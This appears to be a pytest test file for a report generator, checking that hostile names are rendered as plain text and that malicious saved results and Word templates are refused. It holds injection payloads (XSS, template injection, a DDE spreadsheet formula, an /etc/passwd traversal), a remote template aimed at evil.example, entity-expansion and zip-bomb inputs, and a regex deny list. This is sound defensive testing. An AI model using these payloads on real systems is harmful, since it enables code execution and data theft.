@@ -1,0 +1,303 @@
+"""Names that attack end as plain text in every format; files that attack end in a message."""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import zipfile
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from assess.cli import run
+from assess.errors import InputError
+from assess.intake.house import read_house
+from assess.intake.saved_results import read_result
+from assess.reports.faces import render
+from assess.reports.json_format import plain
+from assess.reports.outline import quiet
+from assess.reports.report import make_report
+from assess.results import Result
+from assess.text import Text
+from tests.reports.faces import Page, W, word_text, workbook_cells
+from tests.reports.hand_made import DAY, EXAMPLES, advised, judged
+
+NAMES = {
+    "script": "<script>alert(1)</script>",
+    "template": "{{7*7}}{% raw %}${7*7}#{7*7}",
+    "formula": "=cmd|'/C calc'!A0",
+    "plus": "+1+2",
+    "minus": "-1-2",
+    "at": "@SUM(1)",
+    "markup": "]]></w:t><w:instrText> HYPERLINK http://x </w:instrText>&amp;\"'",
+    "control": "a\x00\x07\x1b[31m\x08b\x0b\x7f\x85\ud800c",
+    "long": "长" * 10_000,
+    "rtl": "\u202eمرحبا\u202c שלום\u2066x",
+    "format": "%s %n {0} \\N \\input{x}",
+    "path": "../../etc/passwd",
+    "markdown": "[a](javascript:alert(1)) `x` | # * _",
+}
+
+
+def named(name: str, result: Result) -> Result:
+    """The result with a hostile text wherever a text from outside can stand."""
+    text = Text(name, name)
+    profile = replace(result.profile, cluster=name, place=name, industry=name, about=text)
+    stated = tuple(replace(each, title=text, source=name, note=name, evidence=name) for each in result.stated[:12])
+    nodes = tuple(
+        replace(
+            node,
+            title=text,
+            descriptor=node.descriptor and text,
+            used=tuple(replace(used, title=text, source=name, note=name) for used in node.used),
+        )
+        for node in result.nodes
+    )
+    advice = tuple(replace(each, title=text, because=text, cautions=(text,)) for each in result.advice[:2])
+    return replace(result, profile=profile, stated=stated, nodes=nodes, advice=advice, sources={"D1": text})
+
+
+@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES.keys())
+@pytest.mark.parametrize("suffix", [".docx", ".html", ".xlsx", ".md", ".json"])
+def test_names_end_as_plain_text(name: str, suffix: str) -> None:
+    base = judged("tongbai-peanut") if len(name) > 1000 else advised("tongbai-peanut")
+    result = named(name, base) if len(name) <= 1000 else replace(base, profile=replace(base.profile, cluster=name))
+    if suffix == ".json" and "\ud800" in name:
+        pytest.skip("no reader of ours lets half a character in")
+    raw = render(make_report([result], "zh", DAY), suffix)
+
+    CHECKS[suffix](raw, name)
+
+
+def _word(raw: bytes, name: str) -> None:
+    assert quiet(name) in word_text(raw)
+    with zipfile.ZipFile(io.BytesIO(raw)) as package:
+        root = etree.fromstring(package.read("word/document.xml"))
+        codes = {code.text.split()[0] for code in root.iter(f"{W}instrText")}
+        assert codes == {"TOC", "REF", "SEQ"}
+        assert b"External" not in package.read("word/_rels/document.xml.rels")
+
+
+def _html(raw: bytes, name: str) -> None:
+    page = Page(raw)
+    assert " ".join(quiet(name).split()) in " ".join(page.text.split())
+    assert not page.all("script")
+    assert "49" not in re.sub(r"\s", "", page.parts[0])
+    assert all((a.get("href") or "#").startswith("#") for a in page.all("a"))
+    assert not set(raw.decode()) & set("\x00\x07\x1b\u202e\u2066")
+
+
+def _workbook(raw: bytes, name: str) -> None:
+    shown = quiet(name)
+    found = [value for rows in workbook_cells(raw).values() for _, value in rows]
+    assert any(value == shown for value in found)
+    with zipfile.ZipFile(io.BytesIO(raw)) as package:
+        for part in package.namelist():
+            if part.startswith("xl/worksheets/sheet"):
+                for formula in re.findall(rb"<f>(.*?)</f>", package.read(part)):
+                    assert not re.search(rb"cmd|HYPERLINK|WEBSERVICE|\+1\+2|SUM\(1\)", formula)
+
+
+def _markdown(raw: bytes, name: str) -> None:
+    text = raw.decode()
+    assert quiet(name) in re.sub(r"\\([\\`*_{}\[\]<>#|!$~])", r"\1", text)
+    assert not re.search(r"(?<!\\)<script|(?<!\\)\]\(javascript", text)
+
+
+def _json(raw: bytes, name: str) -> None:
+    assert json.loads(raw)["profile"]["cluster"] == name
+
+
+CHECKS: dict[str, Callable[[bytes, str], None]] = {
+    ".docx": _word,
+    ".html": _html,
+    ".xlsx": _workbook,
+    ".md": _markdown,
+    ".json": _json,
+}
+
+
+# Saved results
+
+
+def saved(tmp_path: Path, change: Callable[[dict], object] | str) -> Path:
+    path = tmp_path / "result.json"
+    if isinstance(change, str):
+        path.write_text(change, encoding="utf-8")
+    else:
+        data = plain(judged("tongbai-peanut"))
+        data = change(data) or data
+        path.write_text(json.dumps(data), encoding="utf-8")
+    return path
+
+
+def _set(path: str, value: object) -> Callable[[dict], None]:
+    def change(data: dict) -> None:
+        *steps, last = path.split(".")
+        here = data
+        for step in steps:
+            here = here[int(step)] if isinstance(here, list) else here[step]
+        if isinstance(here, list):
+            here[int(last)] = value
+        else:
+            here[last] = value
+
+    return change
+
+
+BROKEN: dict[str, tuple[Callable[[dict], object] | str, str]] = {
+    "not json": ("{", "E601"),
+    "a list": ("[]", "E602"),
+    "another file": ('{"schema": "x"}', "E602"),
+    "an older version": (_set("schema", "assess/result/0"), "E603"),
+    "a newer version": (_set("schema", "assess/result/2"), "E603"),
+    "not a number": ('{"schema": "assess/result/1", "score": NaN}', "E604"),
+    "infinity": ('{"schema": "assess/result/1", "score": 1e999}', "E604"),
+    "a huge integer": ('{"schema": "assess/result/1", "score": ' + "9" * 4000 + "}", "E604"),
+    "deep": ('{"schema": ' + "[" * 100_000 + "]" * 100_000 + "}", "E112"),
+    "a little too deep": (_set("nodes", json.loads("[" * 60 + "]" * 60)), "E112"),
+    "text for a number": (_set("low", "12"), "E605"),
+    "no such status": (_set("nodes.0.status", "perhaps"), "E605"),
+    "a missing key": (lambda data: data.pop("nodes") and None, "E605"),
+    "a circle": (_set("nodes.0.parent", "specialization"), "E605"),
+    "an orphan": (_set("nodes.3.parent", "nobody"), "E605"),
+    "an id twice": (_set("nodes.2.id", "SP01"), "E605"),
+    "a scale of no kind": (_set("nodes.1.scale", {"eval": "1"}), "E605"),
+    "a scale that runs backwards": (_set("nodes.1.scale", {"points": {"1": 5, "0": 9}}), "E605"),
+    "a gate of no kind": (_set("gates.0.sign", "=cmd"), "E605"),
+    "empty": (" ", "E105"),
+}
+
+
+@pytest.mark.parametrize(("change", "code"), BROKEN.values(), ids=BROKEN.keys())
+def test_a_broken_result_is_refused_by_name(tmp_path: Path, change: Callable[[dict], object] | str, code: str) -> None:
+    with pytest.raises(InputError) as refused:
+        read_result(saved(tmp_path, change))
+
+    assert [problem.code for problem in refused.value.problems] == [code]
+
+
+def test_keys_of_a_later_program_are_passed_over(tmp_path: Path) -> None:
+    def change(data: dict) -> None:
+        data["later"] = {"x": 1}
+        data["nodes"][0]["later"] = 1
+
+    assert plain(read_result(saved(tmp_path, change))) == plain(judged("tongbai-peanut"))
+
+
+# Templates
+
+
+def house(tmp_path: Path, change: Callable[[dict[str, bytes]], None] = lambda parts: None) -> Path:
+    """A bureau's template, changed."""
+    import docx
+    from docx.shared import Mm, Pt
+
+    document = docx.Document()
+    style = document.styles["Body Text"]
+    style.font.name, style.font.size = "Courier New", Pt(11)
+    document.styles["Heading 1"].font.size = Pt(20)
+    section = document.sections[0]
+    section.page_width, section.page_height, section.left_margin = Mm(200), Mm(280), Mm(33)
+    document.add_paragraph("{{ 7*7 }} sample text of the bureau")
+    first = io.BytesIO()
+    document.save(first)
+    with zipfile.ZipFile(first) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    change(parts)
+    path = tmp_path / "house.docx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, part in parts.items():
+            package.writestr(name, part)
+    return path
+
+
+def _replace(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
+    def change(parts: dict[str, bytes]) -> None:
+        assert old in parts[name]
+        parts[name] = parts[name].replace(old, new, 1)
+
+    return change
+
+
+def _add(name: str, part: bytes) -> Callable[[dict[str, bytes]], None]:
+    return lambda parts: parts.update({name: part})
+
+
+EXTERNAL = (
+    b'<Relationship Id="rId99" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+)
+LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:styles xmlns:w="x">&b;</w:styles>'
+ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
+    "macros": (_add("word/vbaProject.bin", b"x"), "E613"),
+    "macro type": (_replace("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"), "E613"),
+    "embedded object": (_add("word/embeddings/oleObject1.bin", b"x"), "E613"),
+    "remote template": (_replace("word/_rels/document.xml.rels", b"</Relationships>", EXTERNAL), "E614"),
+    "entities": (lambda parts: parts.update({"word/styles.xml": LAUGHS}), "E612"),
+    "bomb": (_add("word/big.xml", b" " * 50_000_000), "E612"),
+    "no styles": (lambda parts: parts.pop("word/styles.xml") and None, "E612"),
+    "no types": (lambda parts: parts.pop("[Content_Types].xml") and None, "E612"),
+    "broken xml": (lambda parts: parts.update({"word/document.xml": b"<w:"}), "E612"),
+}
+
+
+@pytest.mark.parametrize(("change", "code"), ATTACKS.values(), ids=ATTACKS.keys())
+def test_a_template_that_attacks_is_refused(
+    tmp_path: Path, change: Callable[[dict[str, bytes]], None], code: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = house(tmp_path, change)
+
+    with pytest.raises(InputError) as refused:
+        read_house(path)
+
+    assert refused.value.problems[0].code == code
+    out = tmp_path / "r.docx"
+    assert run(["report", str(EXAMPLES / "tongbai-peanut.yaml"), "-o", str(out), "--template", str(path)]) == 2
+    assert not out.exists()
+    assert code in capsys.readouterr().err
+
+
+def test_a_file_that_is_no_template_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "house.docx"
+    path.write_bytes(b"not a zip")
+
+    with pytest.raises(InputError) as refused:
+        read_house(path)
+
+    assert refused.value.problems[0].code == "E612"
+
+
+def test_a_house_lends_its_styles_and_its_page_and_nothing_else(tmp_path: Path) -> None:
+    own = read_house(house(tmp_path))
+
+    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", own)
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as package:
+        styles = etree.fromstring(package.read("word/styles.xml"))
+        document = etree.fromstring(package.read("word/document.xml"))
+    body = next(s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == "Body Text")
+    assert body.find(f"{W}rPr/{W}rFonts").get(f"{W}ascii") == "Courier New"
+    assert body.find(f"{W}rPr/{W}sz").get(f"{W}val") == "22"
+    heading = next(s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == "heading 1")
+    assert heading.find(f"{W}pPr/{W}numPr") is not None
+    size = next(document.iter(f"{W}pgSz"))
+    assert round(int(size.get(f"{W}w")) / 56.7) == 200
+    assert "sample text" not in word_text(raw)
+    assert b"heme" not in etree.tostring(styles)
+
+
+def test_attributes_of_a_style_cannot_break_out(tmp_path: Path) -> None:
+    """What is copied is written anew from plain words; a quote, a bracket or an entity is none."""
+    attack = _replace("word/styles.xml", b"<w:sz w:val=", b'<w:sz w:evil="&quot;/&gt;&lt;w:instrText&gt;" w:val=')
+    own = read_house(house(tmp_path, attack))
+
+    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", own)
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as package:
+        assert b"instrText" not in package.read("word/styles.xml")
